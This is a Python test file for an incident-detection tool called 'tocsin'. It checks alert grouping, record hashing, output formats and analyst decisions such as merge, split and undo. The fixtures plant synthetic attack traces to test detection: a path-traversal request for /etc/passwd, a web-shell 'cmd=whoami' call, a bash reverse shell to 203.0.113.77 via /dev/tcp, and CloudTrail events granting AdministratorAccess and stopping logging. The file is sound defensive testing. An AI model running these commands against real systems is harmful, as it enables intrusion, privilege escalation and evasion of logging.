# SPDX-License-Identifier: Apache-2.0
"""tocsin scan --incidents and tocsin incident, as a user meets them, on the drill's evidence."""

import csv
import hashlib
import io
import json
import re
import shutil
import tempfile
import unittest
from pathlib import Path

import program


class Incidents(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = Path(tempfile.mkdtemp(prefix="tocsin-test-"))
        cls.evidence = cls.folder / "evidence"
        code, _, errors = program.run("drill", "make", cls.evidence)
        assert code == 0, errors.decode()
        cls.saved = cls.folder / "result"
        code, cls.lines, errors = program.run("scan", "--incidents", "--format", "jsonl", "--save",
                                              cls.saved, cls.evidence)
        assert code == 1, errors.decode()
        cls.incidents = [json.loads(line) for line in cls.lines.splitlines()]

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.folder)

    def listed(self, folder):
        code, out, errors = program.run("incident", "list", folder, "--format", "jsonl")
        self.assertEqual(code, 0, errors.decode())
        return [json.loads(line) for line in out.splitlines()]

    def copy(self, name):
        return shutil.copytree(self.saved, self.folder / name)

    def decide(self, *words):
        code, _, errors = program.run("incident", *words, "--by", "k.lund", "--reason", "looked at")
        self.assertEqual(code, 0, errors.decode())

    def test_every_alert_is_in_one_incident_and_every_link_says_why(self):
        _, alerts, _ = program.run("scan", "--format", "jsonl", self.evidence)
        ids = sorted(json.loads(line)["id"] for line in alerts.splitlines())
        grouped = sorted(a["id"] for i in self.incidents for a in i["alerts"])
        self.assertEqual(grouped, ids)
        for incident in self.incidents:
            members = {a["id"] for a in incident["alerts"]}
            self.assertGreaterEqual(len(incident["links"]), len(members) - 1)
            for link in incident["links"]:
                self.assertIn(link["from"], members)
                self.assertIn(link["to"], members)
                self.assertTrue(link["why"])
                self.assertGreater(link["bits"], 0)
        self.assertEqual([i["score"] for i in self.incidents],
                         sorted((i["score"] for i in self.incidents), reverse=True))

    def test_threads_do_not_change_a_byte(self):
        for threads in (1, 3):
            _, out, _ = program.run("scan", "--incidents", "--format", "jsonl", "--threads",
                                    threads, self.evidence)
            self.assertEqual(out, self.lines, f"{threads} threads")

    def test_every_alert_and_every_event_counted_has_the_hash_of_its_record(self):
        counted = 0
        for line in (self.saved / "alerts.jsonl").read_text().splitlines():
            alert = json.loads(line)
            self.assertRegex(alert["record_sha256"], "^[0-9a-f]{64}$", alert["rule"]["title"])
            for event in alert.get("events", []):
                self.assertRegex(event["record_sha256"], "^[0-9a-f]{64}$")
                if not event["path"].endswith(".evtx"):
                    continue
                counted += 1
                data = (self.evidence / event["path"]).read_bytes()
                start = event["offset"]
                size = int.from_bytes(data[start + 4:start + 8], "little")
                self.assertEqual(event["record_sha256"],
                                 hashlib.sha256(data[start:start + size]).hexdigest())
        self.assertGreater(counted, 0)

    def test_what_was_saved_gives_the_same_incidents(self):
        code, out, _ = program.run("incident", "list", self.saved, "--format", "jsonl")
        self.assertEqual(code, 0)
        self.assertEqual(out, self.lines)
        self.assertEqual((self.saved / "incidents.jsonl").read_bytes(), self.lines)
        code, _, errors = program.run("scan", "--save", self.saved, self.evidence)
        self.assertEqual(code, 2)
        self.assertIn(b"there is a result already", errors)

    def test_forms(self):
        rows = list(csv.DictReader(io.StringIO((self.saved / "timeline.csv").read_text())))
        self.assertEqual(len(rows), sum(len(i["alerts"]) for i in self.incidents))
        self.assertEqual([r["datetime"] for r in rows], sorted(r["datetime"] for r in rows))
        _, ocsf, _ = program.run("scan", "--incidents", "--format", "ocsf", self.evidence)
        for line in ocsf.splitlines():
            self.assertEqual(json.loads(line)["class_uid"], 2005)
        _, text, _ = program.run("scan", "--incidents", "--format", "markdown", self.evidence)
        self.assertTrue(text.startswith(b"# Tocsin: "))
        code, _, errors = program.run("scan", "--format", "markdown", self.evidence)
        self.assertEqual(code, 2)
        self.assertIn(b"--incidents", errors)
        report = self.folder / "report.html"
        program.run("scan", "--report", report, self.evidence)
        page = report.read_text()
        self.assertIn('id="incidents"', page)
        self.assertIn('class="graph"', page)

    def test_a_claim_is_confirmed_by_the_id_that_show_tells(self):
        folder = self.copy("confirmed")
        first = self.incidents[0]
        claim = first["claims"][0]["id"]
        _, page, _ = program.run("incident", "show", folder, first["id"])
        self.assertIn(claim[:12].encode(), page)
        self.decide("confirm", folder, first["id"], claim[:12])
        self.assertEqual(self.listed(folder)[0]["claims"][0]["state"], "confirmed")

    def test_errors_say_what_to_do(self):
        folder = self.copy("errors")
        first = self.incidents[0]["id"]
        by = ("--by", "k.lund", "--reason", "looked at")
        for words, said in (
                (("show", folder, "zz"), b"`tocsin incident list` shows them"),
                (("undo", folder, "zz", *by), b"`tocsin incident decisions` shows them"),
                (("confirm", folder, first, "zz", *by), b"`tocsin incident show` shows them"),
                (("state", folder, first, "contained", *by), b"only confirmed or dismissed"),
                (("list", self.folder / "nowhere"), b"tocsin scan PATH --save")):
            code, _, errors = program.run("incident", *words)
            self.assertEqual(code, 2, words)
            self.assertIn(said, errors)

    def test_decisions_are_recorded_and_can_be_taken_back(self):
        folder = self.copy("decided")
        first, second = self.incidents[0]["id"], self.incidents[1]["id"]
        self.decide("state", folder, first[:10], "confirmed")
        self.assertEqual(self.listed(folder)[0]["state"], "confirmed")
        self.decide("merge", folder, first, second)
        merged = self.listed(folder)
        self.assertEqual(len(merged), len(self.incidents) - 1)
        self.assertNotIn(second, [i["id"] for i in merged])
        alert = self.incidents[0]["alerts"][0]["id"]
        self.decide("split", folder, first, "--alert", alert[:12])
        split = self.listed(folder)
        self.assertEqual(len(split), len(self.incidents))
        alone = [i for i in split if alert in [a["id"] for a in i["alerts"]]][0]
        self.assertEqual([a["id"] for a in alone["alerts"]], [alert])
        _, out, _ = program.run("incident", "decisions", folder)
        taken = [json.loads(line) for line in out.splitlines()]
        self.assertEqual([d["kind"] for d in taken], ["state", "merge", "split"])
        for decision in reversed(taken):
            self.decide("undo", folder, decision["id"])
        self.assertEqual(self.listed(folder), self.incidents)

    def test_what_cannot_be_decided_says_why(self):
        folder = self.copy("refused")
        first = self.incidents[0]["id"]
        words = ("--by", "k.lund", "--reason", "x")
        for command, expected in (
                (("state", folder, first, "closed", *words), b"suspected"),
                (("state", folder, "nothing", "closed", *words), b"there is no incident"),
                (("split", folder, first, "--alert", "nothing", *words), b"there is no alert"),
                (("show", folder, "nothing"), b"there is no incident"),
                (("list", self.evidence), b"holds no result"),
                (("state", folder, first, "closed"), b"--by")):
            code, _, errors = program.run("incident", *command)
            self.assertNotEqual(code, 0)
            self.assertIn(expected, errors)
        self.assertEqual(self.listed(folder), self.incidents)

    def test_a_damaged_result_names_the_place(self):
        folder = self.copy("damaged")
        alerts = folder / "alerts.jsonl"
        lines = alerts.read_bytes().splitlines(keepends=True)
        lines[2] = lines[2].replace(b'"host":', b'"hosts":')
        alerts.write_bytes(b"".join(lines))
        code, _, errors = program.run("incident", "list", folder)
        self.assertEqual(code, 2)
        self.assertIn(b"alerts.jsonl line 3: host is missing", errors)

    def test_show_and_explain_tell_the_whole(self):
        first = self.incidents[0]
        _, out, _ = program.run("incident", "show", self.saved, first["id"][:10])
        for alert in first["alerts"]:
            self.assertIn(alert["id"][:12].encode(), out.replace(b"\n", b"").replace(b" ", b""))
        _, out, _ = program.run("incident", "explain", self.saved, first["id"][:10])
        self.assertGreaterEqual(out.count(b" bits): "), len(first["links"]))


OUTSIDE = "203.0.113.77"
REQUESTS = [("10:02:00", "GET /download?file=../../../../etc/passwd HTTP/1.1"),
            ("10:05:00", "POST /uploads/x.php?cmd=whoami HTTP/1.1")]


def audit_event(second, serial, program_path, words, process, parent):
    head = f"audit(17726187{second:02}.000:{serial})"
    arguments = " ".join(f'a{i}="{word}"' for i, word in enumerate(words))
    return (f"node=web01 type=SYSCALL msg={head}: arch=c000003e syscall=59 success=yes exit=0 "
            f"ppid={parent} pid={process} auid=4294967295 uid=33 gid=33 euid=33 tty=(none) "
            f'ses=4294967295 comm="{words[0]}" exe="{program_path}"'
            f'\x1dUID="www-data" GID="www-data"\n'
            f"node=web01 type=EXECVE msg={head}: argc={len(words)} {arguments}\n")


def cloud_event(minute, name, source, parameters):
    user = "arn:aws:iam::123456789012:user/svc-backup"
    return {"eventVersion": "1.09", "eventTime": f"2026-03-06T12:{minute}:00Z",
            "eventSource": source, "eventName": name, "awsRegion": "eu-central-1",
            "sourceIPAddress": OUTSIDE, "userIdentity": {"type": "IAMUser", "arn": user},
            "requestParameters": parameters, "responseElements": None,
            "eventID": f"00000000-0000-4000-8000-0000000000{minute}",
            "eventType": "AwsApiCall", "recipientAccountId": "123456789012"}


class FromTheWebServerToTheCloud(unittest.TestCase):
    """An access log that names no host, the audit log of the host whose folder it lies in, and two
    days later a cloud, reached from the same address outside."""

    def setUp(self):
        self.folder = Path(tempfile.mkdtemp(prefix="tocsin-test-"))
        (self.folder / "web01").mkdir()
        lines = [f'{OUTSIDE} - - [04/Mar/2026:{at} +0000] "{request}" 200 512 "-" "curl/8.1"\n'
                 for at, request in REQUESTS]
        (self.folder / "web01/access.log").write_text("".join(lines))
        (self.folder / "web01/audit.log").write_text(
            audit_event(0, 500, "/usr/bin/dash", ["sh", "-c", "whoami"], 3500, 900)
            + audit_event(12, 501, "/usr/bin/bash",
                          ["bash", "-i", f">& /dev/tcp/{OUTSIDE}/443 0>&1"], 3511, 3500))
        policy = "arn:aws:iam::aws:policy/AdministratorAccess"
        events = [cloud_event(12, "AttachUserPolicy", "iam.amazonaws.com",
                              {"userName": "helpdesk2", "policyArn": policy}),
                  cloud_event(15, "StopLogging", "cloudtrail.amazonaws.com", {"name": "main"})]
        (self.folder / "trail.json").write_text(json.dumps({"Records": events}))

    def tearDown(self):
        shutil.rmtree(self.folder)

    def test_it_is_one_incident(self):
        _, out, errors = program.run("scan", "--incidents", "--format", "jsonl", self.folder)
        incidents = [json.loads(line) for line in out.splitlines()]
        self.assertEqual(errors, b"")
        first = incidents[0]
        self.assertEqual({alert["path"] for alert in first["alerts"]},
                         {"web01/access.log", "web01/audit.log", "trail.json"})
        self.assertEqual([i["rank"] for i in incidents if i["rank"] != "low"], [first["rank"]])
        accounts = {e["key"] for e in first["entities"] if e["kind"] == "account"}
        self.assertIn("web01\\www-data", accounts)
        self.assertNotIn("web01\\uid:33", accounts)

    def test_its_timeline_shows_the_access_log_on_its_host(self):
        page = self.folder / "report.html"
        program.run("scan", "--report", page, self.folder)
        lanes = re.findall(r'<svg class="timeline".*?</svg>', page.read_text(), re.DOTALL)
        self.assertTrue(lanes)
        self.assertIn("web01", lanes[0])
        self.assertNotIn("no host", lanes[0])


if __name__ == "__main__":
    program.main()
